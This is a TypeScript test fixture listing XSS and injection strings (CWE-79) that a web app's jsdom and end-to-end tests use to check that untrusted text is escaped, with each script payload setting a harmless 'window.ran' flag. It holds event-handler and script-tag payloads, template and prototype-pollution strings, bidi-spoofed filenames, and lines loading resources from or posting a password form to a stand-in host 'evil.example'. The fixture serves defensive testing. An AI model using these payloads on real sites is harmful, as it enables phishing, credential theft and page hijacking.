/**
 * Texts that run a script, load a resource, break out of or cover the page when they are not treated as text (CWE-79). A browser that runs
 * one sets `window.ran`. The end-to-end tests of this remote and its jsdom tests share them.
 */
export const HOSTILE = [
  '<script>window.ran=1</script>',
  '<img src=x onerror="window.ran=1">',
  '"><svg/onload=window.ran=1>',
  "'-window.ran=1-'\"/><b autofocus tabindex=1 onfocus=window.ran=1>",
  '</textarea></title></style><script>window.ran=1</script>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<a href="javascript:window.ran=1">ici</a> javascript:window.ran=1',
  '[ici](javascript:window.ran=1) ![x](https://evil.example/pixel.png)',
  '<details open ontoggle=window.ran=1><summary>x</summary></details>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>',
  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>*{display:none!important}</style>',
  '<form action="https://evil.example"><input name=password><button>Envoyer</button></form>',
  '<div style="position:fixed;inset:0;z-index:99" id="portal" data-portal="x">x</div>',
  "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} #{7*7} <%= 7*7 %>",
  '&lt;script&gt;window.ran=1&lt;/script&gt; &#60;img src=x onerror=window.ran=1&#62;',
  '{{n}} $t(messages.send) %s %n {name}',
  '__proto__ constructor toString hasOwnProperty',
  '\u202Egnp.exe\u202C \u2066\u2067x\u2069 \u200B\uFEFF',
];
